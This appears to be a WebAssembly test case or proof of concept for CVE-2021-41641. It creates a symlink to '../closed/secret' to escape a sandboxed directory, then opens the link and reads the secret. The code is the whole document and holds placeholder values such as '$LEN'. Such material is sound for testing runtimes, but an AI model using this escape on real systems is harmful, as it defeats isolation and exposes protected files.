;; Makes a link that leads out, and follows it.
;; stands for: CVE-2021-41641
;; grant: above
;; path: made or open/made
(data (i32.const 512) "../closed/secret")
(func $attack (result i32) (local $error i32)
  (local.set $error (call $symlink (i32.const 512) (i32.const 16) (i32.const 3) (i32.const 64) (i32.const $LEN)))
  (if (local.get $error) (then (return (local.get $error))))
  (call $read_secret (call $open (i32.const 1) (i32.const 0) (i64.const 2))))
